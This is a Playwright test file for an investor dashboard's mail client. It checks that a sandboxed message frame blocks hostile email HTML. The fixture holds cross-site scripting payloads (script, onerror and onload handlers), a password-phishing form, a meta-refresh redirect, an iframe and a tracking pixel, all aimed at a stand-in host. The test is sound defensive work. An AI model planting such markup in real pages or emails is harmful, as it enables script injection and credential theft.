import { expect, test } from '@playwright/test';
import { expectAccessible } from './expect-accessible.ts';
import { investorAccount, openAccount } from './page-models/investor-account.ts';
import { MailPage } from './page-models/mail-page.ts';

const hostile = `
  <style>body { display: none }</style>
  <p style="color: rgb(200, 0, 0)">The roof was <b>replaced</b> in 2023.</p>
  <a href="https://roofs.example/report">Report</a>
  <img src="https://spy.example/pixel.gif" onerror="parent.stolen = 1">
  <script>parent.stolen = 1</script><svg onload="parent.stolen = 1"></svg>
  <form action="https://spy.example/"><input name="password"><button>Sign in</button></form>
  <meta http-equiv="refresh" content="0; url=https://spy.example/">
  <iframe src="https://spy.example/"></iframe>`;

test('a message arrives, is read in a frame that does and fetches nothing, answered, archived and found', async ({
  page,
}) => {
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  await openAccount(page, investorAccount('wes.harlan', 'Wes Harlan'));
  const mail = new MailPage(page);
  await mail.open();
  await expect(page.getByText('No emails found. Your inbox is clear!')).toBeVisible();
  await expectAccessible(page);

  const to = 'wes.harlan@investor.localhost';
  const file = { name: 'roof-invoice.pdf', mimeType: 'application/pdf', buffer: Buffer.from('%PDF-1.4 roof') };
  await mail.send({ to, subject: 'Rent roll', body: 'Both sides are month to month.' });
  // Two under way at once may arrive in either order.
  await mail.waitFor('Rent roll');
  await mail.send({ to, subject: 'Roof of Willetta', body: 'The roof was replaced in 2023.', html: hostile, file });
  await mail.waitFor('Roof of Willetta');
  await expect(mail.rows.filter({ hasText: 'Unread' })).toHaveCount(2);
  await expect(
    page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Inbox 2 unread' }),
  ).toBeVisible();

  await mail.openMessage('Roof of Willetta');
  await expect(mail.body.getByText('The roof was replaced in 2023.')).toBeVisible();
  // The message's own style is there although the product's policy lets no written style through.
  await expect(mail.body.locator('p')).toHaveCSS('color', 'rgb(200, 0, 0)');
  await expect(mail.body.getByRole('link', { name: 'Report' })).toHaveAttribute('rel', /noopener/);
  await expect(mail.body.getByRole('button')).toHaveCount(0);
  await expect(page.getByRole('link', { name: 'Inbox 1 unread' })).toBeVisible();
  // The frame lets no script in, not even the checker's.
  await page.getByText('Plain text').click();
  await expectAccessible(page);
  await page.getByText('Formatted').click();
  await page.getByRole('button', { name: 'Show images (1)' }).click();
  await expect(page.getByRole('button', { name: /Show images/ })).toHaveCount(0);
  expect(await page.evaluate(() => 'stolen' in window)).toBe(false);

  const saved = page.waitForEvent('download');
  await mail.message.getByRole('link', { name: /roof-invoice\.pdf/ }).click();
  expect((await saved).suggestedFilename()).toBe('roof-invoice.pdf');
  await expect(mail.message.getByRole('link', { name: 'Reply' })).toHaveAttribute('href', /subject=Re%3A\+Roof/);

  await mail.message.getByRole('link', { name: 'Next' }).click();
  await expect(mail.message.getByRole('heading', { name: 'Rent roll' })).toBeVisible();
  await page.keyboard.press('e');
  await expect(mail.rows).toHaveCount(1);
  await page.getByRole('link', { name: 'Archive' }).click();
  await expect(mail.rows).toContainText(['Rent roll']);

  await page.getByRole('link', { name: 'Sent' }).click();
  await expect(mail.rows.filter({ hasText: 'Sent' })).toHaveCount(2);
  await page.getByRole('searchbox', { name: 'Search mail' }).fill('month');
  await page.keyboard.press('Enter');
  await expect(page).toHaveURL('/dashboard/mail?folder=all&q=month');
  await expect(mail.rows).toHaveCount(2);
  await page.getByRole('link', { name: 'Sent' }).click();
  await expect(mail.rows).toHaveCount(1);
  expect(requests.filter((url) => url.includes('spy.example') && !url.includes('pixel.gif'))).toEqual([]);
});

test('a message of a million characters opens part by part', async ({ page }) => {
  await openAccount(page, investorAccount('lena.ortiz', 'Lena Ortiz'));
  const mail = new MailPage(page);
  await mail.open();
  const line = '<p style="margin: 0">The <b>tenant</b> of unit 3 pays on the first of the month.</p>\n';
  await mail.send({
    to: 'lena.ortiz@investor.localhost',
    subject: 'Ledger',
    body: 'The ledger.',
    html: line.repeat(Math.floor(990_000 / line.length)),
  });
  await mail.waitFor('Ledger');
  await mail.openMessage('Ledger');
  await expect(mail.message.getByText('Long message: part 1 of about 10')).toBeVisible();
  await expect(mail.body.locator('body > p:last-of-type')).toHaveCSS('margin', '0px');
  await page.getByRole('button', { name: 'Next part' }).click();
  await expect(mail.message.getByText('Long message: part 2 of about 10')).toBeVisible();
  await expect(mail.body.locator('body > p:last-of-type')).toHaveCSS('margin', '0px');
});

test('the overview leads to the first unread message', async ({ page }) => {
  await openAccount(page, investorAccount('iris.bell', 'Iris Bell'));
  const mail = new MailPage(page);
  await mail.send({ to: 'iris.bell@investor.localhost', subject: 'Escrow opened', body: 'Instructions are enclosed.' });
  await mail.open();
  await mail.waitFor('Escrow opened');
  await page.getByRole('link', { name: 'Overview', exact: true }).click();
  const card = page.getByRole('region', { name: 'Inbox' });
  await expect(card).toContainText('Escrow opened');
  await card.getByRole('link', { name: 'View' }).click();
  await expect(mail.message.getByRole('heading', { name: 'Escrow opened' })).toBeVisible();
});
